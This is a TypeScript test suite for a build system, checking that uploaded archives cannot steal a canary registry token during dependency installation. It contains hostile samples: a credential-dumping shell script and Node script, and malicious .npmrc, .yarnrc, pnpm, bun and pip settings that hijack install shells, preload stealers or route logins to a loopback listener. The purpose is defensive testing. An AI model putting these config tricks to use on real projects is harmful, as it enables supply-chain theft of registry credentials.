// Archives that try to steal the machine's registry login: with each setting of a package client that names a program, and with those that
// name another place to send the login to. The registry is a real one on the loopback, the clients are real, the token is a canary.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { linkRunTools } from '../../../../scripts/test/run-tools.ts';
import { trialRunner } from '../../test/step-runner.ts';
import { folderServer, listener, tokenRegistry } from '../../test/token-registry.ts';
import { writeZip } from '../../test/write-zip.ts';
import { build } from '../build.ts';
import { findToolchains } from '../install/toolchain.ts';
import { type ToolName, toolStore } from '../install/tools.ts';

const TOKEN = 'CANARY_registry_token';
const home = mkdtempSync(join(tmpdir(), 'paddock-hostile-'));
const dataDir = join(home, 'data');
mkdirSync(dataDir);
linkRunTools(dataDir);
const toolchains = await findToolchains(AbortSignal.timeout(60_000));
const tools = toolStore(dataDir, toolchains, new AbortController().signal);
const managers: ToolName[] = ['npm', 'pnpm', 'yarn', 'yarn-berry', 'bun'];
for (const name of managers) await tools.packageManager(name);
await tools.uv();

const thing = {
  'package.json': '{"name": "@own/thing", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node made.js"}}',
  'index.js': 'module.exports = require("./made.json");',
  'made.js':
    'const fs = require("fs"); fs.writeFileSync("made.json", JSON.stringify(["made", process.env, fs.readdirSync("/opt/paddock/registry").map((n) => { try { return fs.readFileSync("/opt/paddock/registry/" + n, "utf8") } catch { return "" } })]));',
};
const registry = await tokenRegistry(TOKEN, { '@own/thing': thing });
const stranger = await listener();
// From here on the machine's clients, whose settings the builder reads, have the operator's registry and login.
const settings = join(home, 'npmrc');
writeFileSync(settings, `registry=${registry.address}\n${registry.address.replace('http:', '')}:_authToken=${TOKEN}\n`);
for (const name of Object.keys(process.env)) if (/^npm_config_|_proxy$/i.test(name)) delete process.env[name];
process.env.npm_config_userconfig = settings;
after(() => {
  registry.close();
  stranger.close();
  rmSync(home, { recursive: true, force: true });
});

/** Saves what a program sees of its step where a hostile one would: in the package cache and on the stranger's server. */
const steal = `#!/bin/sh
{ env; cat /opt/paddock/registry/npmrc; } >/cache/stolen-$$ 2>/dev/null
exit 1
`;
const stealJs = `const fs = require('fs'); let text = JSON.stringify(process.env);
try { text += fs.readFileSync('/opt/paddock/registry/npmrc', 'utf8'); } catch {}
fs.writeFileSync('/cache/stolen-' + process.pid, text);
`;
let count = 0;

interface Outcome {
  lines: string;
  failure: string;
  app: string;
}

async function deploy(files: Record<string, string>): Promise<Outcome> {
  const all: Record<string, string> = { 'steal.sh': steal, 'steal.cjs': stealJs, 'server.js': '', ...files };
  const zipPath = join(home, `${count++}.zip`);
  const mode = (name: string) => (name.endsWith('.sh') ? 0o100755 : 0o100644);
  writeFileSync(zipPath, writeZip(Object.entries(all).map(([name, data]) => ({ name, data, mode: mode(name) }))));
  const lines: string[] = [];
  const onLine = (_: string, text: string) => void lines.push(text);
  // Each build has its own ten minutes: all of them together may take longer on a busy machine.
  const signal = AbortSignal.timeout(600_000);
  const request = { zipPath, settings: {}, teamId: `team_${count}`, dataDir, run: trialRunner(), toolchains, signal, onLine };
  const result = await build({ ...request, limits: { memory_mb: 1024, cpus: 1, processes: 256, disk_mb: 1024, open_files: 4096 } }).catch(
    (error: unknown) => error as Error,
  );
  const isError = result instanceof Error;
  return { lines: lines.join('\n'), failure: isError ? result.message : '', app: isError ? '' : result.app_dir };
}

/** The token is not on disk where archive and packages could write, not on the stranger's server, and not in the log. */
function tokenIsKept({ lines, failure }: Outcome): void {
  // The folder of the tools may be a link, which grep only follows if it is an argument.
  const found = spawnSync('grep', ['-rl', '--', TOKEN, dataDir, join(dataDir, 'tools/')], { encoding: 'utf8' });
  assert.equal(found.stdout, '');
  assert.ok(!stranger.heard().includes(TOKEN), 'the stranger has it');
  assert.ok(!lines.includes(TOKEN) && !failure.includes(TOKEN));
}

const manifest = (more: object = {}) =>
  JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'true' }, dependencies: { '@own/thing': '1.0.0' }, ...more });
/** Nothing listens on port 1. The test checks whether another server gets the request. */
const gitDependency = { dependencies: { '@own/thing': '1.0.0', other: 'git+http://127.0.0.1:1/other.git' } };
const hosts = registry.address.replace('http:', '');

for (const manager of managers) {
  const lock: Record<string, string> = { pnpm: 'pnpm-lock.yaml', yarn: 'yarn.lock', bun: 'bun.lock' };
  const pinned: Record<string, string> = { pnpm: 'pnpm@10.34.8', yarn: 'yarn@1.22.22', 'yarn-berry': 'yarn@4.18.1', bun: 'bun@1.4.5' };
  const asks = (more: object = {}) => manifest({ ...more, ...(pinned[manager] === undefined ? {} : { packageManager: pinned[manager] }) });
  // yarn 2 and later does not read npm's login, so it cannot install a private package.
  const reaches = manager !== 'yarn-berry';

  test(`${manager} fetches a private package with the login, and runs its install script without`, { skip: !reaches }, async () => {
    for (const source of [{}, { scripts: {} }]) {
      const outcome = await deploy({
        'package.json': asks({
          ...source,
          ...(manager === 'bun' ? { trustedDependencies: ['@own/thing'] } : {}),
          pnpm: { onlyBuiltDependencies: ['@own/thing'] },
        }),
        'server.js': `require("@own/thing")`,
      });
      assert.equal(outcome.failure, '', outcome.lines);
      tokenIsKept(outcome);
      const made = spawnSync('grep', ['-rl', '--include=made.json', '"made"', join(dataDir, 'artifacts'), join(dataDir, 'layers')]);
      assert.notEqual(made.stdout.toString(), '', 'its install script ran');
    }
  });

  const hostile: Record<ToolName, Record<string, string>> = {
    npm: {
      '.npmrc': `git=./steal.sh\nscript-shell=/app/steal.sh\nshell=/app/steal.sh\nnode-options=--require /app/steal.cjs\nonload-script=/app/steal.cjs\nnode-gyp=/app/steal.sh\nignore-scripts=false\nhttps-proxy=${stranger.address}\nproxy=${stranger.address}\nstrict-ssl=false\n`,
    },
    pnpm: {
      '.npmrc': `git=./steal.sh\nscript-shell=/app/steal.sh\nnode-options=--require /app/steal.cjs\nproxy=${stranger.address}\npnpmfile=steal.cjs\nglobal-pnpmfile=/app/steal.cjs\n`,
      '.pnpmfile.cjs': `${stealJs}module.exports = {};`,
      'pnpm-workspace.yaml': `scriptShell: /app/steal.sh\npnpmfile: steal.cjs\nhttpProxy: ${stranger.address}\nconfigDependencies:\n  evil: 1.0.0\n`,
    },
    yarn: {
      '.yarnrc': `yarn-path "./steal.cjs"\nscript-shell "/app/steal.sh"\nproxy "${stranger.address}"\n--install.ignore-scripts false\n`,
      '.npmrc': `git=./steal.sh\nscript-shell=/app/steal.sh\nproxy=${stranger.address}\nalways-auth=true\n`,
    },
    'yarn-berry': {
      '.yarnrc.yml': `yarnPath: ./steal.cjs\nplugins:\n  - path: ./steal.cjs\n    spec: evil\nhttpProxy: ${stranger.address}\nenableScripts: true\n`,
    },
    bun: {
      'bunfig.toml': `preload = ["./steal.cjs"]\n[install]\ncafile = "./steal.sh"\n[install.scopes]\nevil = { url = "${stranger.address}", token = "$npm_config_token" }\n[run]\nshell = "/app/steal.sh"\n`,
      '.env': `HTTP_PROXY=${stranger.address}\nhttp_proxy=${stranger.address}\nBUN_OPTIONS=--preload /app/steal.cjs\n`,
    },
  };

  test(`no setting of an archive runs a program of it beside the login of ${manager}, or sends the login elsewhere`, async () => {
    for (const more of [{}, gitDependency]) {
      const outcome = await deploy({ 'package.json': asks(more), ...hostile[manager] });
      tokenIsKept(outcome);
      assert.match(outcome.lines, /Not used of "[^"]+" while dependencies are fetched: /);
    }
    const aside = await deploy({
      'package.json': asks(),
      ...hostile[manager],
      ...(lock[manager] === undefined ? {} : { [lock[manager]]: '' }),
    });
    tokenIsKept(aside);
  });
}

test('an archive’s .npmrc takes no variable of the step and no registry login to another place', async () => {
  const outcome = await deploy({
    'package.json': manifest({ dependencies: { '@evil/x': '1.0.0', '@own/thing': '1.0.0' } }),
    '.npmrc': `@evil:registry=${stranger.address}\${npm_config_userconfig}/\n//${stranger.address.slice(7)}:_authToken=\${npm_config_userconfig}\n${hosts}:certfile=/opt/paddock/registry/npmrc\nsend=\${HOME}\n"fund"=\${HOME}\naudit="\\u0024{HOME}"\n`,
  });
  tokenIsKept(outcome);
  assert.ok(!stranger.heard().includes('/opt/paddock'), stranger.heard());
  assert.match(outcome.lines, /Not used of "\.npmrc" while dependencies are fetched: .*certfile/);
  assert.ok(!/Not used.*(userconfig|\/opt\/paddock)/.test(outcome.lines), 'values are not told');
});

test('settings that an honest project needs work, and nothing is said of them', async () => {
  const conflict = { ...thing, 'package.json': '{"name": "old-peer", "version": "1.0.0", "peerDependencies": {"@own/thing": "2.0.0"}}' };
  const other = await tokenRegistry('their-own', { '@own/thing': thing, 'old-peer': conflict });
  try {
    const files = { 'package.json': manifest({ dependencies: { '@own/thing': '1.0.0', 'old-peer': '1.0.0' } }) };
    const own = `registry=${other.address}\n; of the project's own registry\n${other.address.slice(5)}:_authToken=their-own\n`;
    const strict = await deploy({ ...files, '.npmrc': own });
    assert.match(strict.lines, /old-peer@1\.0\.0 needs @own\/thing@2\.0\.0, but the dependencies ask for .* \(--legacy-peer-deps\)/);
    const outcome = await deploy({ ...files, '.npmrc': `${own}legacy-peer-deps = true\nfund=false\nsave-exact=true\n` });
    assert.equal(outcome.failure, '', outcome.lines);
    assert.doesNotMatch(outcome.lines, /Not used|legacy-peer-deps/);
  } finally {
    other.close();
  }
});

test('the repository of a git dependency runs no program beside the login either, whatever its own .npmrc says', async () => {
  const work = join(home, 'repository');
  const bare = join(home, 'served', 'other.git');
  mkdirSync(work);
  const files: Record<string, string> = {
    'package.json': JSON.stringify({
      ...{
        name: 'other',
        version: '1.0.0',
        scripts: { prepare: 'sh ./steal.sh', preinstall: 'sh ./steal.sh', postinstall: 'sh ./steal.sh' },
      },
      // npm installs these in the repository to prepare it.
      ...{ devDependencies: { '@own/thing': '1.0.0', nested: 'git+http://127.0.0.1:1/nested.git' } },
    }),
    '.npmrc': `git=./steal.sh\nscript-shell=./steal.sh\nnode-options=--require ./steal.cjs\nignore-scripts=false\nhttps-proxy=${stranger.address}\nproxy=${stranger.address}\n`,
    'steal.sh': steal,
    'steal.cjs': stealJs,
  };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(work, name), text, { mode: 0o755 });
  const git = (...args: string[]) => {
    const done = spawnSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b.test', '-c', 'init.defaultBranch=main', ...args], {
      cwd: work,
    });
    assert.equal(done.status, 0, done.stderr.toString());
  };
  git('init', '--quiet');
  git('add', '.');
  git('commit', '--quiet', '-m', 'a');
  git('clone', '--quiet', '--bare', '.', bare);
  git('--git-dir', bare, 'update-server-info');
  const server = await folderServer(join(home, 'served'));
  try {
    for (const packageManager of [undefined, 'pnpm@10.34.8', 'yarn@1.22.22']) {
      const dependencies = { '@own/thing': '1.0.0', other: `git+${server.address}other.git` };
      const outcome = await deploy({ 'package.json': manifest({ dependencies, packageManager }) });
      tokenIsKept(outcome);
      assert.match(outcome.lines, /Installing dependencies with/);
    }
    assert.ok(server.asked() > 0, 'the repository was fetched');
  } finally {
    server.close();
  }
});

test('requirements cannot send a variable of the step to another address', async () => {
  const evil = `${stranger.address}\${npm_config_userconfig}\${PIP_CERT}\${PATH}`;
  const leak = `x @ ${stranger.address}\${VIRTUAL_ENV}/x.whl\n`;
  const more = `${stranger.address}more.txt`;
  const needsSource = './own\n';
  const many = Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`r${n}.txt`, `-r r${n + 1}.txt\n`]));
  const archives: Record<string, string>[] = [
    { 'requirements.txt': `--index-url ${evil.replace('npm_config_userconfig', 'VIRTUAL_ENV')}\nsix\n` },
    { 'requirements.txt': `-r ${more}\n` },
    { 'requirements.txt': `-r            ${more}\n` },
    { 'requirements.txt': `six==1.17.0 --hash=sha256:aa -r ${more}\n` },
    { 'requirements.txt': '-r more.list\n', 'more.list': leak },
    { 'requirements.txt': `${needsSource}-r "more.txt"\n`, 'more.txt': leak },
    { 'requirements.txt': `${needsSource}-r r0.txt\n`, ...many, 'r40.txt': leak },
  ];
  for (const files of archives) {
    const { failure } = await deploy({ ...files, 'own/pyproject.toml': '[project]\nname = "own"\nversion = "1"\n', 'main.py': '' });
    assert.match(failure, /uses the variable|from another address|is not in the archive|has an option/, JSON.stringify(files));
  }
  const project = `[project]\nname = "a"\nversion = "1"\ndependencies = ["x @ ${stranger.address}\${VIRTUAL_ENV}/x.whl"]\n`;
  const { failure } = await deploy({ 'pyproject.toml': project, 'main.py': '' });
  assert.match(failure, /uses the variable/);
  assert.ok(!stranger.heard().includes('.venv'));
});

test('what an archive tells uv besides its packages is left out by name', async () => {
  const project = `[project]\nname = "a"\nversion = "1"\ndependencies = []\n[tool.uv]\nkeyring-provider = "subprocess"\nallow-insecure-host = ["x.test"]\n`;
  const { lines, failure } = await deploy({
    'pyproject.toml': project,
    'main.py': '',
    'uv.toml': 'python-install-mirror = "http://x.test"\n',
  });
  assert.equal(failure, '', lines);
  assert.match(lines, /Not used of "pyproject\.toml" while dependencies are fetched: "keyring-provider", "allow-insecure-host"\./);
});
